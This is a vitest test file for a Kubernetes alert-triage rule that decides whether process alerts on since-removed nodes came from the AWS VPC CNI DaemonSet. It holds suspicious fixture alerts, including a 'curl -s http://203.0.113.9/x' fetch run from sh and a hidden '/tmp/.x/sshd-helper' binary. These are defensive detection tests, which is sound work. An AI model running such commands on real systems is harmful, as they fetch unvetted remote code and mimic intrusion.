import { describe, expect, it } from 'vitest';
import { buildIndex } from '../../../src/cluster/index.js';
import type { AuditActivity, KubeObject } from '../../../src/cluster/model.js';
import { correlate } from '../../../src/triage/correlate.js';
import { triageAlert } from '../../../src/triage/pipeline.js';
import { goneComponent } from '../../../src/triage/rules/gone-component.js';
import { alert, node, snapshot } from '../../support/cluster.js';

const CNI = '602401143452.dkr.ecr.eu-central-1.amazonaws.com/amazon-k8s-cni:v1.19.0-eksbuild.1';
const INIT = '602401143452.dkr.ecr.eu-central-1.amazonaws.com/amazon-k8s-cni-init:v1.19.0-eksbuild.1';
const GONE_NODE = 'ip-10-42-23-198.eu-central-1.compute.internal';
const awsNode: KubeObject = {
  apiVersion: 'apps/v1',
  kind: 'DaemonSet',
  metadata: { name: 'aws-node', namespace: 'kube-system', uid: 'ds-aws-node' },
  spec: {
    template: {
      spec: {
        hostNetwork: true,
        containers: [{ name: 'aws-node', image: CNI, securityContext: { capabilities: { add: ['NET_ADMIN'] } } }],
        initContainers: [{ name: 'aws-vpc-cni-init', image: INIT, securityContext: { privileged: true } }],
      },
    },
  },
};
const T = (hms: string) => `2026-12-03T${hms}.000Z`;

function creation(o: Partial<AuditActivity> = {}, images = [CNI, INIT]): AuditActivity {
  return {
    time: T('07:40:26'),
    user: 'system:serviceaccount:kube-system:daemon-set-controller',
    groups: [],
    verb: 'create',
    resource: 'pods',
    namespace: 'kube-system',
    name: 'aws-node-fv9kr',
    sourceIps: ['10.42.31.201'],
    code: 201,
    podSpec: { images, owner: 'DaemonSet', ownerName: 'aws-node', nodeName: GONE_NODE, hostNetwork: true },
    ...o,
  };
}

function run(a: ReturnType<typeof alert>, activities: AuditActivity[]) {
  const s = snapshot([node('ip-10-42-7-141.eu-central-1.compute.internal', '10.42.7.141'), awsNode]);
  s.auditActivities = activities;
  const index = buildIndex([s]);
  const correlation = correlate(a, index);
  return { correlation, evidence: goneComponent.evaluate({ alert: a, correlation, index }), verdict: triageAlert(a, { index }).verdict };
}

/** A host-installed sensor: namespace, container name and image, the short host name, no pod name. */
const iptables = (cmd = 'iptables -t nat -N AWS-SNAT-CHAIN-0 --wait', parent = { name: 'aws-k8s-agent', commandLine: './aws-k8s-agent' }, time = T('07:41:02')) =>
  alert({ host: 'ip-10-42-23-198', time, container: { id: 'c'.repeat(64), name: 'aws-node', namespace: 'kube-system', image: CNI }, process: { name: cmd.split(' ')[0], commandLine: cmd }, ancestors: [parent] });

describe('gone-component', () => {
  it("the CNI's iptables in its DaemonSet pod on a node removed before the snapshot: node-networking from the audit log", () => {
    const { correlation, evidence, verdict } = run(iptables(), [creation()]);
    expect(correlation.gonePod?.name).toBe('aws-node-fv9kr');
    expect(evidence).toHaveLength(1);
    expect(evidence[0]).toMatchObject({ direction: 'benign', cause: 'node-networking', strength: 'medium' });
    expect(evidence[0].message).toMatch(/DaemonSet kube-system\/aws-node on ip-10-42-23-198/);
    expect(verdict).toMatchObject({ label: 'likely-false-positive', cause: 'node-networking', context: 'partial' });
  });

  it('traps: another program, a pod not made by the DaemonSet controller, an older template, a pod deleted before the alert', () => {
    expect(run(iptables('curl -s http://203.0.113.9/x', { name: 'sh', commandLine: 'sh' }), [creation()]).evidence).toEqual([]);
    expect(run(iptables(), [creation({ user: 'mallory@example.com' })]).evidence).toEqual([]);
    expect(run(iptables(), [creation({}, ['602401143452.dkr.ecr.eu-central-1.amazonaws.com/amazon-k8s-cni:v1.18.0', INIT])]).evidence).toEqual([]);
    const deleted: AuditActivity = { time: T('07:40:50'), user: 'system:serviceaccount:kube-system:pod-garbage-collector', groups: [], verb: 'delete', resource: 'pods', namespace: 'kube-system', name: 'aws-node-fv9kr', sourceIps: [], code: 200 };
    const after = run(iptables(undefined, undefined, T('07:45:00')), [creation(), deleted]);
    expect(after.correlation.gonePod).toBeUndefined();
    expect(after.verdict).toMatchObject({ label: 'genuine', context: 'none' });
  });

  it('an unnamed alert is placed on a gone pod only when exactly one pod of that image was pinned to its host', () => {
    const twin = creation({ name: 'aws-node-zz9zz' });
    expect(run(iptables(), [creation(), twin]).correlation.gonePod).toBeUndefined();
  });
});

describe('gone-component: the host of a gone node', () => {
  const host = (path: string, parent: string, time = T('12:29:52')) =>
    alert({ host: GONE_NODE, time, process: { name: path.split('/').pop(), path }, ancestors: [{ name: parent, path: `/usr/bin/${parent}` }] });

  it('a CNI plugin run by containerd on a node removed before the snapshot, where the CNI DaemonSet pod ran', () => {
    const { correlation, evidence, verdict } = run(host('/opt/cni/bin/aws-cni', 'containerd'), [creation()]);
    expect(correlation.goneNode?.name).toBe(GONE_NODE);
    expect(evidence[0]).toMatchObject({ direction: 'benign', cause: 'node-networking' });
    expect(evidence[0].message).toMatch(/CNI plugin .* executed by containerd on ip-10-42-23-198/);
    expect(verdict).toMatchObject({ label: 'likely-false-positive', context: 'partial' });
  });

  it('traps: another binary or caller, a node that never had a CNI pod, a node the snapshot still has', () => {
    expect(run(host('/tmp/.x/sshd-helper', 'bash'), [creation()]).verdict).toMatchObject({ label: 'genuine', context: 'partial' });
    expect(run(host('/opt/cni/bin/aws-cni', 'bash'), [creation()]).evidence).toEqual([]);
    const other = alert({ host: 'ip-10-42-99-1.eu-central-1.compute.internal', time: T('12:29:52'), process: { name: 'aws-cni', path: '/opt/cni/bin/aws-cni' }, ancestors: [{ name: 'containerd' }] });
    expect(run(other, [creation()]).verdict).toMatchObject({ label: 'genuine', context: 'none' });
    const live = alert({ host: 'ip-10-42-7-141.eu-central-1.compute.internal', time: T('12:29:52'), process: { name: 'aws-cni', path: '/opt/cni/bin/aws-cni' }, ancestors: [{ name: 'containerd' }] });
    expect(run(live, [creation({ podSpec: { images: [CNI, INIT], owner: 'DaemonSet', ownerName: 'aws-node', nodeName: 'ip-10-42-7-141.eu-central-1.compute.internal' } })]).correlation.goneNode).toBeUndefined();
  });
});
